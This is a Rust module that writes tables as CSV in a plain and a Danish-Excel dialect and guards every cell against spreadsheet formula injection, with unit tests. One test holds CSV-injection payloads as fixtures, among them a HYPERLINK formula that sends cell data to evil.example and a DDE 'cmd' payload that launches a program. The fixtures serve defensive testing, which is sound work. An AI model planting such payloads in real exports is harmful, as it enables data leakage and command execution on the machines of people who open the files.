//! Tables (`table::Table`, values of the core) as CSV, in the two dialects,
//! and the one rule every CSV cell the project writes goes through
//! ([`csv_cell`]).

use std::borrow::Cow;

use crate::table::Table;

/// The two CSV dialects.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Dialect {
    /// Comma, dot decimals, the columns' keys as the header.
    #[default]
    Plain,
    /// Semicolon, comma decimals, UTF-8 with BOM, CRLF, Danish headers: opens
    /// in a Danish Excel with numbers as numbers.
    ExcelDa,
}

impl Dialect {
    pub fn parse(text: &str) -> Option<Dialect> {
        match text {
            "plain" | "" => Some(Dialect::Plain),
            "excel-da" | "da" => Some(Dialect::ExcelDa),
            _ => None,
        }
    }

    pub fn as_str(self) -> &'static str {
        match self {
            Dialect::Plain => "plain",
            Dialect::ExcelDa => "excel-da",
        }
    }
}

/// A cell as every CSV the project writes holds it. Text that a spreadsheet
/// would run as a formula, because it begins with `=`, `+`, `-`, `@`, a tab
/// or a carriage return (OWASP's CSV injection guidance), gets a single
/// quote in front: Excel and LibreOffice then show it as text, quote
/// included. A number as the project writes one (`-25.00`, or `-25,00` in
/// Danish) is left alone, so that a spreadsheet still reads a number.
pub fn csv_cell(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `-25`, `-25.00`, `-25,00`: an optional minus, digits, and at most one
/// decimal separator followed by digits.
fn is_number(text: &str) -> bool {
    let t = text.strip_prefix('-').unwrap_or(text);
    let (whole, decimals) = t.split_once(['.', ',']).unwrap_or((t, "0"));
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && digits(decimals)
}

/// The table as CSV bytes.
pub fn to_csv(table: &Table, dialect: Dialect) -> Vec<u8> {
    let mut out = Vec::new();
    if dialect == Dialect::ExcelDa {
        out.extend_from_slice("\u{feff}".as_bytes());
    }
    let (delimiter, terminator) = match dialect {
        Dialect::Plain => (b',', csv::Terminator::Any(b'\n')),
        Dialect::ExcelDa => (b';', csv::Terminator::CRLF),
    };
    {
        let mut w = csv::WriterBuilder::new().delimiter(delimiter).terminator(terminator).from_writer(&mut out);
        let header: Vec<&str> = table
            .columns
            .iter()
            .map(|c| match dialect {
                Dialect::Plain => c.key,
                Dialect::ExcelDa => c.da.as_str(),
            })
            .collect();
        // Writing to a Vec cannot fail.
        let _ = w.write_record(header.iter().map(|h| csv_cell(h)).collect::<Vec<_>>().iter().map(|c| c.as_bytes()));
        for row in &table.rows {
            let cells: Vec<String> = row
                .iter()
                .map(|v| match dialect {
                    Dialect::Plain => v.plain(),
                    Dialect::ExcelDa => v.excel_da(),
                })
                .collect();
            let _ = w.write_record(cells.iter().map(|c| csv_cell(c)).collect::<Vec<_>>().iter().map(|c| c.as_bytes()));
        }
        let _ = w.flush();
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::money::Money;
    use crate::table::{Column, Value};
    use rust_decimal_macros::dec;

    fn table() -> Table {
        Table {
            name: "status",
            title_en: "Status".into(),
            title_da: "Status".into(),
            columns: vec![
                Column::new("group", "Group", "Målgruppe"),
                Column::new("referred", "Referred", "Henvist"),
                Column::new("paid", "Paid", "Udbetalt"),
                Column::new("success_rate", "Success rate", "Effekt"),
            ],
            rows: vec![
                vec![
                    Value::Text("Dagpenge".into()),
                    Value::Int(92),
                    Value::Money(Money::parse("25974").unwrap()),
                    Value::Percent(dec!(53.6), 1),
                ],
                vec![Value::Text("Integration".into()), Value::Small(5), Value::Hidden, Value::Missing],
            ],
            total: None,
        }
    }

    #[test]
    fn plain_csv_has_keys_commas_and_dots() {
        let text = String::from_utf8(to_csv(&table(), Dialect::Plain)).unwrap();
        assert_eq!(text, "group,referred,paid,success_rate\nDagpenge,92,25974.00,53.6\nIntegration,< 5,hidden,\n");
    }

    #[test]
    fn danish_excel_csv_has_a_bom_semicolons_and_decimal_commas() {
        let bytes = to_csv(&table(), Dialect::ExcelDa);
        assert_eq!(&bytes[..3], b"\xef\xbb\xbf");
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        assert_eq!(
            text,
            "Målgruppe;Henvist;Udbetalt;Effekt\r\nDagpenge;92;25974,00;53,6\r\nIntegration;< 5;skjult;\r\n"
        );
    }

    #[test]
    fn formulas_are_neutralised_in_both_dialects_and_numbers_stay_numbers() {
        let mut t = table();
        t.rows = vec![
            vec![
                Value::Text("=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")".into()),
                Value::Text("+cmd|' /C calc'!A0".into()),
                Value::Text("@SUM(1+1)".into()),
                Value::Text("-1-1".into()),
            ],
            vec![
                Value::Text("\t=1+1".into()),
                Value::Text("\r=1+1".into()),
                Value::Money(Money::parse("-25").unwrap()),
                Value::Number(dec!(-1.5), 1),
            ],
            vec![
                Value::Text("-25.00".into()),
                Value::Text("a=1".into()),
                Value::Percent(dec!(-3.2), 1),
                Value::Text("'quoted".into()),
            ],
        ];
        let plain = String::from_utf8(to_csv(&t, Dialect::Plain)).unwrap();
        assert_eq!(
            plain,
            "group,referred,paid,success_rate\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\",'+cmd|' /C calc'!A0,'@SUM(1+1),'-1-1\n\
             '\t=1+1,\"'\r=1+1\",-25.00,-1.5\n\
             -25.00,a=1,-3.2,'quoted\n"
        );
        let da = String::from_utf8(to_csv(&t, Dialect::ExcelDa)[3..].to_vec()).unwrap();
        assert_eq!(
            da,
            "Målgruppe;Henvist;Udbetalt;Effekt\r\n\
             \"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"klik\"\")\";'+cmd|' /C calc'!A0;'@SUM(1+1);'-1-1\r\n\
             '\t=1+1;\"'\r=1+1\";-25,00;-1,5\r\n\
             -25.00;a=1;-3,2;'quoted\r\n"
        );
    }

    #[test]
    fn only_plain_numbers_count_as_numbers() {
        for n in ["-25", "-25.00", "-25,00", "-0,5", "12"] {
            assert_eq!(csv_cell(n), n, "{n}");
        }
        for t in ["-", "-1-1", "-25.", "-.5", "-1.2.3", "-1e5", "- 5", "-25,00 kr."] {
            assert_eq!(csv_cell(t), format!("'{t}"), "{t}");
        }
    }
}
